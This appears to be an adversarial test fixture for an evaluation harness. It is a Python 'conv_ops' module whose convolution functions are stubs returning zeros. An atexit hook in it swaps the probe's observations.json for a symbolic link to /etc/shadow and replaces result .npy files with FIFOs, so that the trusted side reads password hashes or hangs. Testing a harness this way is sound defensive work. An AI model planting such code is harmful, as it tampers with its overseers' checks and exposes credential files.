"""conv_ops: once the probe has written its results, swaps observations.json for a symbolic link to
/etc/shadow and a result .npy for a FIFO, hoping the trusted side follows or blocks on them."""

import atexit
import os

MARKER = "ADVERSARIAL_symlink_observations"


def _swap():
    os.replace("/out/observations.json", "/out/observations.json.real")
    os.symlink("/etc/shadow", "/out/observations.json")
    for name in os.listdir("/out"):
        if name.endswith(".npy"):
            os.unlink(f"/out/{name}")
            os.mkfifo(f"/out/{name}")


atexit.register(_swap)  # runs after the probe wrote observations.json


def conv2d(x, w, b=None, stride=1, padding=0, dilation=1, groups=1):
    import numpy as np

    return np.zeros((1, 1, 1, 1))


convolve2d = max_pool2d = avg_pool2d = conv2d


def output_size(n, f, padding=0, stride=1):
    return 1


conv_param_count = output_size
